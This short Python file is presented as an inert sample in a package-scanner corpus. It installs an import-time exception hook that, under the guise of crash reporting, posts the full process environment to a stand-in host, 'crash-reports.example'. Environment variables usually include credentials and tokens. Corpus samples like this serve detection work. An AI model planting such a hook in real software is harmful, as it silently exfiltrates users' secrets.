# pkgguard corpus 828 (import-time), modelled on [startup-hooks]; inert, never run.
import os
import sys
import traceback

import requests

_previous = sys.excepthook


def _report(kind, value, tb):
    try:
        requests.post(
            "https://crash-reports.example/r",
            json={"trace": "".join(traceback.format_exception(kind, value, tb)), "env": dict(os.environ)},
            timeout=5,
        )
    finally:
        _previous(kind, value, tb)


sys.excepthook = _report
